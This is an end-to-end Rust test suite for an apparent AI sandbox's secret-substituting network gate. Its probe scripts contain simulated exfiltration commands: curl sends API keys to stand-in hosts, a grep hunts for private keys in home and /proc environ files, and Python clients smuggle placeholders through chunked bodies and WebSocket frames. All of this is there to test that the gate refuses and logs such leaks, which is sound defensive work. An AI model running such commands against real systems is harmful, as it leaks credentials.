//! Keys the agent never holds: a secret bound to a host (`secret = NAME for HOST`) is a
//! placeholder inside; the gate opens TLS for that host only, puts the real value into the
//! request headers there, refuses the placeholder anywhere else (403, logged), and leaves every
//! other host a blind tunnel. Upstreams are a test host serving HTTPS (a certificate from a CA
//! made for this test, which the gate trusts through `upstream_ca`) and plain HTTP.
//!
//! Mutations run against the first test (2026-12-01): substitution off in `terminate::relay`
//! → it fails where the bound host's server must see the real key (it saw the placeholder);
//! `Secrets::misuse` always `None` → it fails at `hdr 403` (the other host got the request).

use crate::harness::*;
use std::process::Child;

const NAMES: [&str; 6] =
    ["api.bound.test", "api2.bound.test", "other.test", "git.bound.test", "api.rules.test", "git.rules.test"];

/// The echo server (tests/e2e/echo_server.py) on a test host, and its CA.
pub(crate) struct Upstream {
    server: Child,
    log: std::path::PathBuf,
    pub(crate) dir: std::path::PathBuf,
    pub(crate) th: TestHost,
}

impl Upstream {
    /// Puts the upstream's CA into the project as `e2e-ca.pem`, the user's (what curl inside
    /// trusts for a blind tunnel to it).
    pub(crate) fn ca_into(&self, p: &Project) {
        std::fs::copy(self.dir.join("ca.pem"), p.path("e2e-ca.pem")).unwrap();
        chown_user(&p.path("e2e-ca.pem"));
    }

    /// `git_token`: the one token its git server takes (kept in a file, off command lines);
    /// empty: it asks for none.
    pub(crate) fn start(git_token: &str) -> Upstream {
        let th = TestHost::new();
        let dir = env().root.join(format!("keys-{}", th.ns));
        std::fs::create_dir_all(&dir).unwrap();
        test_ca(&dir, &NAMES);
        std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let log = dir.join("requests.jsonl");
        std::fs::write(&log, "").unwrap();
        let (repos, token_file) = (dir.join("repos"), dir.join("git-token"));
        std::fs::write(&token_file, git_token).unwrap();
        bare_repo_with_one_commit(&repos.join("proj.git"));
        let (cert, key) = (dir.join("leaf.pem"), dir.join("leaf.key"));
        let args = [cert.as_os_str(), key.as_os_str()];
        let vars = [
            ("ECHO_LOG", log.as_os_str()),
            ("ECHO_GIT_ROOT", repos.as_os_str()),
            ("ECHO_GIT_TOKEN_FILE", token_file.as_os_str()),
        ];
        let server = python_on_443(&th.ns, &dir, "echo_server.py", &args, &vars);
        Upstream { server, log, dir, th }
    }

    pub(crate) fn requests(&self) -> Vec<serde_json::Value> {
        json_lines(&self.log)
    }
}

/// A bare repository (pushes allowed) whose main has one commit.
pub(crate) fn bare_repo_with_one_commit(bare: &std::path::Path) {
    let git = |dir: &std::path::Path, args: &[&str]| {
        let o = std::process::Command::new("git")
            .args(["-c", "user.name=e2e", "-c", "user.email=e2e@test", "-c", "init.defaultBranch=main"])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    };
    std::fs::create_dir_all(bare).unwrap();
    git(bare, &["init", "-q", "--bare"]);
    git(bare, &["config", "http.receivepack", "true"]);
    let work = bare.with_extension("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q"]);
    std::fs::write(work.join("README"), "first\n").unwrap();
    git(&work, &["add", "README"]);
    git(&work, &["commit", "-qm", "first"]);
    git(&work, &["push", "-q", bare.to_str().unwrap(), "main"]);
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// What the sandbox runs: each probe prints one line to `out`, then it waits for `done`.
const PROBES: &str = r#"
{
echo "env=$API_KEY"
curl -sS -H "Authorization: Bearer $API_KEY" https://api.bound.test/auth; echo "auth rc=$?"
python3 -c 'import os, urllib.request as u; r = u.urlopen(u.Request("https://api.bound.test/py", headers={"Authorization": "Bearer " + os.environ["API_KEY"]}), timeout=20); print("py", r.status)' 2>&1 | tail -1
curl -sS -o /dev/null -D - -H "Authorization: Bearer $API_KEY" https://api.bound.test/echo-auth | tr -d '\r' | grep -i '^x-echo'
curl -sSN https://api.bound.test/sse | while IFS= read -r l; do
  [ "$l" = "data: one" ] && curl -sS https://api.bound.test/ack >/dev/null
  [ -n "$l" ] && echo "sse $l"
done
head -c 65536 /dev/zero | tr '\0' x > /tmp/big
curl -sS -o /dev/null -w 'expect %{http_code}\n' -H 'Expect: 100-continue' --data-binary @/tmp/big https://api.bound.test/expect
curl -sS -o /dev/null -w 'chunked %{http_code}\n' -H 'Transfer-Encoding: chunked' --data-binary @/tmp/big https://api.bound.test/chunked
curl -sS -w 'keepalive %{num_connects}\n' -o /dev/null https://api.bound.test/ka1 -o /dev/null https://api.bound.test/ka2
git -c http.extraHeader="X-Note: none" ls-remote "https://x-access-token:$API_KEY@api.bound.test/basic.git" >/dev/null 2>&1; echo "basic done"
curl -s -o /dev/null -w 'hdr %{http_code}\n' -H "X-Leak: $API_KEY" https://api2.bound.test/leak-h
curl -s -o /dev/null -w 'url %{http_code}\n' "https://api2.bound.test/leak-u?k=$API_KEY"
curl -s -o /dev/null -w 'body %{http_code}\n' --data "k=$API_KEY" https://api2.bound.test/leak-b
curl -s -o /dev/null -w 'ctl %{http_code}\n' -H "Authorization: Bearer $OTHER_KEY" --data "k=plain" https://api2.bound.test/ctl
curl -s -o /dev/null -w 'clear %{http_code}\n' -H "X-Leak: $API_KEY" http://other.test/leak-c
curl -s -o /dev/null -w 'clearctl %{http_code}\n' http://other.test/ctl-c
curl -s -o /dev/null -w 'blind %{http_code}\n' --cacert e2e-ca.pem -H "X-Leak: $API_KEY" https://other.test/blind
curl -s -o /dev/null -w 'pinned %{http_code}\n' --cacert e2e-ca.pem https://api.bound.test/pinned
curl -sS -o /dev/null -w 'bad %{http_code}\n' https://wrong.test/ 2>&1
printf '\055\055\055\055\055BEGIN PRIVATE KEY\055\055\055\055\055\n' > /tmp/pattern
mkdir -p /tmp/control && cp /tmp/pattern /tmp/control/planted.pem
echo "keyfiles=$(grep -rlIF -f /tmp/pattern /run/ai-sandbox "$HOME" /tmp . 2>/dev/null | grep -v '^/tmp/pattern$' | tr '\n' ' ')"
echo "keyproc=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -cF -f /tmp/pattern)"
echo "cacert=$(grep -c 'BEGIN CERTIFICATE' /run/ai-sandbox/gate-ca.pem)"
} > out 2>&1
touch ready
"#;

#[test]
#[ignore = "e2e: needs root + scripts/install-deps; run by scripts/test"]
fn a_bound_secret_reaches_its_host_only_and_the_sandbox_sees_a_placeholder() {
    let up = Upstream::start("git-token-unused-here");
    let p = Project::new("keys");
    up.ca_into(&p);
    let mut config = String::new();
    for n in NAMES.iter().chain(&["wrong.test"]) {
        config += &format!("allow = {n}\nresolve = {n}={}\n", up.th.v4);
    }
    config += "secret = API_KEY for api.bound.test\nsecret = OTHER_KEY for api2.bound.test\n\
               secret = BAD_KEY for wrong.test\n";
    config += &format!("upstream_ca = {}\n", up.dir.join("ca.pem").display());
    p.config(&config);
    let (api, other, bad) = ("sk-e2e-REAL-5b7d1e", "other-e2e-REAL-c04a9f", "bad-e2e-REAL-77e210");
    let script = format!("{PROBES}{UNTIL_DONE}");
    let mut child = spawn_sandbox_with_secret_env(
        &p,
        &["--", "sh", "-c", &script],
        &[("API_KEY", api), ("OTHER_KEY", other), ("BAD_KEY", bad)],
    );
    let stderr = child.stderr_live();
    assert!(wait_for(120, || p.path("ready").exists()), "the probes did not finish");
    let leaks = command_lines_containing(&[api, other, bad]);
    finish(&p, child);
    let out = std::fs::read_to_string(p.path("out")).unwrap();
    let stderr = stderr.lock().unwrap().clone();
    let reqs = up.requests();
    let at = |target: &str| reqs.iter().filter(|r| r["target"] == target).collect::<Vec<_>>();

    // The sandbox holds a placeholder, never the value; nor does any command line.
    assert!(leaks.is_empty(), "a secret on a command line: {leaks:?}");
    assert!(out.contains("env=aisb_placeholder_") && !out.contains(api), "{out}");
    // The bound host receives the real value, in a header and in Basic credentials (git).
    assert!(out.contains("ok api.bound.test") && out.contains("auth rc=0"), "{out}");
    assert_eq!(at("/auth")[0]["headers"]["authorization"], format!("Bearer {api}"), "{reqs:?}");
    // Python's own client (urllib, the ssl module's default context) trusts the gate's CA too.
    assert!(out.contains("py 200"), "{out}");
    assert_eq!(at("/py")[0]["headers"]["authorization"], format!("Bearer {api}"), "{reqs:?}");
    // git asks without credentials first; the 401 makes it send them.
    let basic = reqs.iter().find(|r| {
        r["target"].as_str().unwrap_or("").starts_with("/basic.git")
            && r["headers"]["authorization"].is_string()
    });
    let basic = basic.map(|r| r["headers"]["authorization"].as_str().unwrap().to_string());
    let expect = format!("Basic {}", base64_of(&format!("x-access-token:{api}")));
    assert_eq!(basic.as_deref(), Some(expect.as_str()), "git's Basic credentials: {reqs:?}");
    // What the host echoes in a header goes back to the placeholder.
    assert!(
        out.contains("X-Echo: Bearer aisb_placeholder_") || out.contains("x-echo: Bearer aisb_placeholder_"),
        "{out}"
    );
    // Request bodies: after `Expect: 100-continue`, and chunked; whole at the server.
    assert!(out.contains("expect 200") && out.contains("chunked 200"), "{out}");
    assert_eq!(
        (at("/expect")[0]["length"].as_u64(), at("/chunked")[0]["length"].as_u64()),
        (Some(65536), Some(65536))
    );
    // Keep-alive on both sides: the second request rides the first one's connections.
    assert!(out.contains("keepalive 1\nkeepalive 0\n"), "{out}");
    assert_eq!(at("/ka1")[0]["peer"], at("/ka2")[0]["peer"], "one upstream connection");
    // A streamed answer arrives as it is sent: the first event before the stream ends.
    assert!(out.contains("sse data: one\nsse data: two acked"), "{out}");
    // The placeholder to another host the gate sees into (bound to another secret), in a
    // header, the URL or the body: 403, and that host received none of those requests.
    for probe in ["hdr 403", "url 403", "body 403", "clear 403"] {
        assert!(out.contains(probe), "{probe}: {out}");
    }
    for target in ["/leak-h", "/leak-b", "/leak-c"] {
        assert!(at(target).is_empty(), "{target} reached the server: {reqs:?}");
    }
    assert!(!reqs.iter().any(|r| r["target"].as_str().unwrap_or("").starts_with("/leak-u")), "{reqs:?}");
    // Controls: the same host and the plain-HTTP host without a placeholder; api2 gets its own key.
    assert!(out.contains("ctl 200") && out.contains("clearctl 200"), "{out}");
    assert_eq!(at("/ctl")[0]["headers"]["authorization"], format!("Bearer {other}"));
    // Another host is a blind tunnel: the client checks the upstream's own certificate (the
    // test CA alone verifies it) and the gate substitutes nothing (the placeholder arrives).
    assert!(out.contains("blind 200"), "{out}");
    assert!(at("/blind")[0]["headers"]["x-leak"].as_str().unwrap().starts_with("aisb_placeholder_"));
    // A bound host is not: the test CA alone does not verify the gate's certificate there.
    assert!(!out.contains("pinned 200") && at("/pinned").is_empty(), "{out}");
    // An upstream whose certificate does not verify: 502 with the reason, nothing sent.
    assert!(out.contains("bad 502"), "{out}");
    // The real values appear nowhere but at their own host.
    for r in &reqs {
        let text = r.to_string();
        let to_api = r["headers"]["host"] == "api.bound.test";
        assert!(to_api || !text.contains(api), "API_KEY's value off its host: {r}");
    }
    // The CA's key is nowhere in the sandbox's view; its certificate is.
    // (Control: a key planted in /tmp is found, so the scan can see one.)
    assert!(out.contains("keyfiles=/tmp/control/planted.pem \n"), "{out}");
    assert!(out.contains("keyproc=0") && out.contains("cacert=1"), "{out}");
    // The refusals are recorded as exfiltration attempts, named, and said by the launcher.
    let log = gate_log();
    assert!(
        log.contains("exfiltration attempt: the placeholder of API_KEY sent to api2.bound.test"),
        "{log}"
    );
    assert!(log.contains("the placeholder of API_KEY sent to other.test over plain HTTP"), "{log}");
    assert!(log.contains("wrong.test") && log.contains("502"), "{log}");
    for s in [api, other, bad] {
        assert!(!log.contains(s) && !stderr.contains(s), "a secret in the log or the launcher's output");
    }
    assert!(stderr.contains("API_KEY: the sandbox holds a placeholder"), "{stderr}");
    // The launcher says it as it happens and in its summary; `logs --denied` shows it.
    let exfil = "exfiltration attempt refused: this request carries the placeholder of API_KEY";
    let summary = stderr.split("refused during this run").nth(1).unwrap_or_default();
    // (With the method and path: the gate read the request.)
    let first = format!("refused api2.bound.test:443 GET /leak-h (ai-sandbox gate: {exfil}");
    assert!(stderr.contains(&first), "{stderr}");
    assert!(summary.contains("api2.bound.test:443") && summary.contains(exfil), "{stderr}");
    let logs = user_command(&p.dir, &env().bin, &["logs", "--denied"], &[]).output().unwrap();
    let logs = String::from_utf8_lossy(&logs.stdout);
    assert!(logs.contains("api2.bound.test") && logs.contains("exfiltration attempt"), "{logs}");
}

fn base64_of(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

#[test]
#[ignore = "e2e: needs root + scripts/install-deps; run by scripts/test"]
fn git_over_https_clones_and_pushes_with_a_bound_token_the_sandbox_never_sees() {
    let token = "ghp_e2eREALtoken0b7c3d";
    let up = Upstream::start(token);
    let p = Project::new("keys-git");
    p.config(&format!(
        "allow = git.bound.test\nresolve = git.bound.test={}\nsecret = GH_TOKEN for git.bound.test\nupstream_ca = {}\n",
        up.th.v4,
        up.dir.join("ca.pem").display()
    ));
    let script = "printenv GH_TOKEN > env-seen; \
        git clone -q \"https://x-access-token:$GH_TOKEN@git.bound.test/git/proj.git\" c && cd c && \
        echo pushed > new.txt && git add new.txt && \
        git -c user.name=dev -c user.email=dev@test commit -qm 'from the sandbox' && \
        git push -q origin HEAD:main; echo \"git rc=$?\" > ../git-out; touch ../ready; cd ..; ";
    let child = spawn_sandbox_with_secret_env(
        &p,
        &["--", "sh", "-c", &format!("{script}{UNTIL_DONE}")],
        &[("GH_TOKEN", token)],
    );
    assert!(wait_for(120, || p.path("ready").exists()), "the git commands did not finish");
    let leaks = command_lines_containing(&[token]);
    finish(&p, child);
    assert!(leaks.is_empty(), "the token on a command line: {leaks:?}");
    assert_eq!(std::fs::read_to_string(p.path("git-out")).unwrap(), "git rc=0\n", "{:?}", up.requests());
    // The server has the sandbox's commit, and it took the real token.
    let log = std::process::Command::new("git")
        .args(["--git-dir", up.dir.join("repos/proj.git").to_str().unwrap(), "log", "--format=%s", "main"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout), "from the sandbox\nfirst\n");
    let pushes = up
        .requests()
        .into_iter()
        .filter(|r| r["target"].as_str().unwrap_or("").contains("git-receive-pack"))
        .count();
    assert!(pushes > 0, "no push reached the server");
    // What the sandbox kept — its env, and the remote URL git wrote into the clone — is the
    // placeholder; the real token is nowhere in the project.
    let seen = std::fs::read_to_string(p.path("env-seen")).unwrap();
    assert!(seen.starts_with("aisb_placeholder_"), "{seen}");
    let cfg = std::fs::read_to_string(p.path("c/.git/config")).unwrap();
    assert!(cfg.contains(seen.trim()) && !cfg.contains(token), "{cfg}");
}

/// Nothing the gate injected comes back: a bound host that echoes its request's headers (as
/// sent and percent-encoded; plain, gzip-compressed whether asked for or not, and chunked so the
/// value is split across chunks; Bearer and Basic) hands the sandbox the placeholder in each
/// spelling, never the real key. Control: the server itself received the real key each time.
/// A body in a coding the gate cannot read is refused (502), not passed.
#[test]
#[ignore = "e2e: needs root + scripts/install-deps; run by scripts/test"]
fn an_upstream_that_echoes_the_request_returns_the_placeholder_never_the_key() {
    let up = Upstream::start("");
    let p = Project::new("echoback");
    let mut config = format!("allow = api.bound.test\nresolve = api.bound.test={}\n", up.th.v4);
    config += "secret = ECHO_KEY for api.bound.test\n";
    config += &format!("upstream_ca = {}\n", up.dir.join("ca.pem").display());
    p.config(&config);
    // Characters that percent-encoding changes, so the encoded spelling differs from the value.
    let key = "sk/e2e+ECHO=4c1d9a";
    let script = r#"
u=https://api.bound.test/echo-headers
b="Authorization: Bearer $ECHO_KEY"
curl -sS -H "$b" "$u" > plain.txt
curl -sS -H "$b" "$u?split=5" > split.txt
curl -sS --compressed -H "$b" "$u?gzip=1" > gzip-asked.txt
curl -sS -H "$b" "$u?gzip=1&split=7" > gzip-unasked.txt
curl -sS -u "me:$ECHO_KEY" "$u?split=3" > basic.txt
curl -sS -D br-head.txt -o /dev/null -w 'br %{http_code}\n' -H "$b" "$u?br=1" > br.txt
"#;
    let out = spawn_sandbox_with_secret_env(&p, &["--", "sh", "-c", script], &[("ECHO_KEY", key)])
        .wait_with_output();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let pct = |s: &str| s.replace('/', "%2F").replace('+', "%2B").replace('=', "%3D");
    let basic_real = base64_of(&format!("me:{key}"));
    let reqs = up.requests();
    let echoes: Vec<_> =
        reqs.iter().filter(|r| r["target"].as_str().unwrap_or("").starts_with("/echo-headers")).collect();
    assert_eq!(echoes.len(), 6, "{reqs:?}");
    // Control: the server received the real key in every request (so each echo carried it).
    for e in &echoes {
        let auth = e["headers"]["authorization"].as_str().unwrap_or("");
        assert!(auth == format!("Bearer {key}") || auth == format!("Basic {basic_real}"), "{e}");
    }
    for f in ["plain.txt", "split.txt", "gzip-asked.txt", "gzip-unasked.txt", "basic.txt"] {
        let text = std::fs::read_to_string(p.path(f)).unwrap_or_default();
        for real in [
            key.to_string(),
            pct(key),
            pct(key).replace("%2F", "%2f").replace("%2B", "%2b").replace("%3D", "%3d"),
            basic_real.trim_end_matches('=').to_string(),
        ] {
            assert!(!text.contains(&real), "{f} carries the real key as {real:?}:\n{text}");
        }
        // What came back is the echo, with the placeholder where the key was.
        let shown = if f == "basic.txt" {
            "authorization: Basic "
        } else {
            "authorization: Bearer aisb_placeholder_"
        };
        assert!(text.contains(shown), "{f}:\n{text}");
        let url = if f == "basic.txt" { "url: Basic%20" } else { "url: Bearer%20aisb_placeholder_" };
        assert!(text.contains(url), "{f}:\n{text}");
    }
    // Basic: the token is the one the sandbox sent (its user and the placeholder).
    let basic = std::fs::read_to_string(p.path("basic.txt")).unwrap();
    let token = basic.lines().find_map(|l| l.strip_prefix("authorization: Basic ")).unwrap_or("");
    let decoded =
        base64::Engine::decode(&base64::engine::general_purpose::STANDARD, token).unwrap_or_default();
    assert!(String::from_utf8_lossy(&decoded).starts_with("me:aisb_placeholder_"), "{basic}");
    // A coding the gate cannot read is refused, not passed.
    let br = std::fs::read_to_string(p.path("br.txt")).unwrap_or_default();
    assert!(br.contains("br 502"), "{br}");
    // Each masked response is in the log, naming the secret, never its value.
    let log = gate_log();
    assert!(log.contains("masked: the response carried the real value of ECHO_KEY"), "{log}");
    assert!(!log.contains(key), "the key in the gate's log");
}

/// A project whose API_KEY is bound to api.bound.test and OTHER_KEY to api2.bound.test, both
/// served by a fresh echo server.
fn two_bound_hosts(name: &str) -> (Upstream, Project) {
    let up = Upstream::start("");
    let p = Project::new(name);
    let mut config = String::new();
    for n in ["api.bound.test", "api2.bound.test"] {
        config += &format!("allow = {n}\nresolve = {n}={}\n", up.th.v4);
    }
    config += "secret = API_KEY for api.bound.test\nsecret = OTHER_KEY for api2.bound.test\n";
    config += &format!("upstream_ca = {}\n", up.dir.join("ca.pem").display());
    p.config(&config);
    (up, p)
}

/// A request body sent in 10-byte pieces with pauses, to a bound host: each piece reaches the
/// server before the client sends the next (the gate does not wait for a KiB), and the server
/// receives the whole body (the control). The placeholder of a secret bound elsewhere, later in
/// such a body (split across two pieces), cuts the request there: the client gets 403, the
/// server never receives it whole (nor a complete request), and the gate logs the attempt.
#[test]
#[ignore = "e2e: needs root + scripts/install-deps; run by scripts/test"]
fn a_body_streamed_in_pieces_passes_as_it_comes_and_a_placeholder_later_in_it_is_cut() {
    let (up, p) = two_bound_hosts("streamed");
    let client = r#"
import base64, http.client, os, ssl, sys, time, urllib.parse
target, leak = sys.argv[1], sys.argv[2] == "leak"
u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(("%s:%s" % (urllib.parse.unquote(u.username), urllib.parse.unquote(u.password))).encode()).decode()
c = http.client.HTTPSConnection(u.hostname, u.port, timeout=30, context=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]))
c.set_tunnel("api.bound.test", 443, headers={"Proxy-Authorization": "Basic " + auth})
other = os.environ["OTHER_KEY"]
def pieces():
    yield b"0123456789"
    for i in range(5):
        time.sleep(0.6)
        if i == 0:
            open("sent2_at", "w").write(repr(time.time()))
        if leak and i == 2:
            yield other[:20].encode()
            time.sleep(0.3)
            yield other[20:].encode()
        else:
            yield b"abcdefghij"
try:
    c.request("POST", target, body=pieces(), encode_chunked=True, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
    print("status", c.getresponse().status)
except Exception as e:
    print("error", type(e).__name__, e)
"#;
    std::fs::write(p.path("client.py"), client).unwrap();
    chown_user(&p.path("client.py"));
    let script =
        "python3 client.py /streamed ok > ok.txt 2>&1; python3 client.py /streamed-leak leak > leak.txt 2>&1";
    let out = spawn_sandbox_with_secret_env(
        &p,
        &["--", "sh", "-c", script],
        &[("API_KEY", "sk-stream-REAL-1"), ("OTHER_KEY", "other-stream-REAL-2")],
    )
    .wait_with_output();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let ok = std::fs::read_to_string(p.path("ok.txt")).unwrap_or_default();
    let leak = std::fs::read_to_string(p.path("leak.txt")).unwrap_or_default();
    let reqs = up.requests();
    let at = |t: &str| reqs.iter().find(|r| r["target"] == t).cloned().unwrap_or_default();
    // The control: the whole body arrived, with the real key in the header.
    assert!(ok.contains("status 200"), "{ok}");
    let streamed = at("/streamed");
    assert_eq!(streamed["length"], 60, "{reqs:?}");
    assert_eq!(streamed["headers"]["authorization"], "Bearer sk-stream-REAL-1");
    // The first piece was at the server before the client sent the second.
    let first_at = streamed["first_chunk_at"].as_f64().expect("the server's time of the first piece");
    let sent2: f64 = std::fs::read_to_string(p.path("sent2_at")).unwrap().trim().parse().unwrap();
    assert!(
        first_at < sent2,
        "the gate held the first piece until after the second was sent ({first_at} >= {sent2})"
    );
    // The placeholder later in a body, split across two pieces: cut there, 403, never at the server.
    assert!(leak.contains("status 403"), "{leak}");
    // What came before the placeholder's end went on (the first half of it, too: a piece that
    // holds no whole placeholder is not held); the whole placeholder never did, and the server
    // saw the request cut, not complete.
    let cut = at("/streamed-leak");
    let body = cut["body"].as_str().unwrap_or("");
    let whole = body
        .match_indices("aisb_placeholder_")
        .any(|(i, p)| body[i + p.len()..].chars().take_while(char::is_ascii_hexdigit).count() >= 32);
    assert!(!whole, "the whole placeholder reached the server: {cut}");
    assert!(cut.is_null() || cut["cut"] == true, "the server got a whole request: {cut}");
    let log = gate_log();
    assert!(
        log.contains("exfiltration attempt: the placeholder of OTHER_KEY sent to api.bound.test"),
        "{log}"
    );
}

/// A WebSocket to a bound host: a message gets through and is answered (the control, plain and
/// compressed); the placeholder of a secret bound elsewhere in a masked message split across
/// fragments, or in a permessage-deflate message, closes the connection, never reaches the
/// server, and is logged as an exfiltration attempt; a server that sends the real key back over
/// the socket has the connection closed before the client reads it.
#[test]
#[ignore = "e2e: needs root + scripts/install-deps; run by scripts/test"]
fn a_websocket_carries_neither_another_hosts_placeholder_out_nor_the_real_key_back() {
    let (up, p) = two_bound_hosts("wsleak");
    let client = r#"
import base64, os, socket, ssl, sys, urllib.parse, zlib
def connect(deflate, auth_header=""):
    u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    s = socket.create_connection((u.hostname, u.port), timeout=20)
    auth = base64.b64encode(("%s:%s" % (urllib.parse.unquote(u.username), urllib.parse.unquote(u.password))).encode()).decode()
    s.sendall(("CONNECT api.bound.test:443 HTTP/1.1\r\nHost: api.bound.test:443\r\nProxy-Authorization: Basic %s\r\n\r\n" % auth).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname="api.bound.test")
    ext = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if deflate else ""
    t.sendall(("GET /ws HTTP/1.1\r\nHost: api.bound.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n%s%s\r\n" % (ext, auth_header)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += t.recv(1)
    assert head.startswith(b"HTTP/1.1 101"), head
    return t
def frame(fin, rsv1, op, data, key=b"\x37\xfa\x21\x3d"):
    n = len(data)
    h = bytes([(0x80 if fin else 0) | (0x40 if rsv1 else 0) | op])
    h += bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big")
    return h + key + bytes(b ^ key[i % 4] for i, b in enumerate(data))
def answer(t):
    try:
        got = t.recv(64)
        return got[2:].decode() if got else "closed"
    except (OSError, ssl.SSLError):
        return "closed"
other = os.environ["OTHER_KEY"].encode()
t = connect(False)
t.sendall(frame(True, False, 1, b"hello control"))
print("plain", answer(t))
t.sendall(frame(False, False, 1, b"x " + other[:20]) + frame(True, False, 0, other[20:] + b" y", b"\x01\x02\x03\x04"))
print("fragmented", answer(t))
t = connect(True)
c = zlib.compressobj(wbits=-15)
def packed(text):
    return (c.compress(text) + c.flush(zlib.Z_SYNC_FLUSH))[:-4]
t.sendall(frame(True, True, 1, packed(b"deflated control")))
print("deflated", answer(t))
t.sendall(frame(True, True, 1, packed(b"key: " + other)))
print("deflated-leak", answer(t))
t = connect(False, "Authorization: Bearer %s\r\n" % os.environ["API_KEY"])
t.sendall(frame(True, False, 1, b"echo control"))
print("echo-control", answer(t))
t.sendall(frame(True, False, 1, b"echo-headers"))
got = b""
try:
    while True:
        b = t.recv(4096)
        if not b:
            break
        got += b
except (OSError, ssl.SSLError):
    pass
print("echoed", len(got), "real" if b"sk-ws-REAL-1" in got else "no-real")
"#;
    std::fs::write(p.path("ws.py"), client).unwrap();
    chown_user(&p.path("ws.py"));
    const ATTEMPT: &str = "the placeholder of OTHER_KEY sent to api.bound.test (in a WebSocket message";
    let before = gate_log().matches(ATTEMPT).count();
    let out = spawn_sandbox_with_secret_env(
        &p,
        &["--", "sh", "-c", "python3 ws.py > ws.txt 2>&1"],
        &[("API_KEY", "sk-ws-REAL-1"), ("OTHER_KEY", "other-ws-REAL-2")],
    )
    .wait_with_output();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let said = std::fs::read_to_string(p.path("ws.txt")).unwrap_or_default();
    // The controls: a plain and a compressed message reach the server and are answered.
    assert!(said.contains("plain got 1") && said.contains("deflated got 1"), "{said}");
    // The placeholder: the connection closes, no answer.
    assert!(said.contains("fragmented closed") && said.contains("deflated-leak closed"), "{said}");
    // A server that sends back the upgrade's credentials: the connection closes before the
    // client reads the real key (control: the same connection answered before; the server got
    // the real key in the upgrade request).
    assert!(said.contains("echo-control got 1") && said.contains("echoed 0 no-real"), "{said}");
    let upgrade =
        up.requests().into_iter().find(|r| r["target"] == "/ws" && r["headers"]["authorization"].is_string());
    assert_eq!(
        upgrade.map(|r| r["headers"]["authorization"].clone()),
        Some(serde_json::json!("Bearer sk-ws-REAL-1"))
    );
    let messages: Vec<String> =
        up.requests().iter().filter_map(|r| r["ws"].as_str().map(String::from)).collect();
    assert!(messages.contains(&"hello control".to_string()), "{messages:?}");
    assert!(messages.contains(&"deflated control".to_string()), "{messages:?}");
    assert!(
        !messages.iter().any(|m| m.contains("aisb_placeholder_")),
        "the server read the placeholder: {messages:?}"
    );
    let log = gate_log();
    assert_eq!(log.matches(ATTEMPT).count() - before, 2, "{log}");
    assert!(
        log.contains("a WebSocket message from api.bound.test carried the real value of API_KEY"),
        "{log}"
    );
}
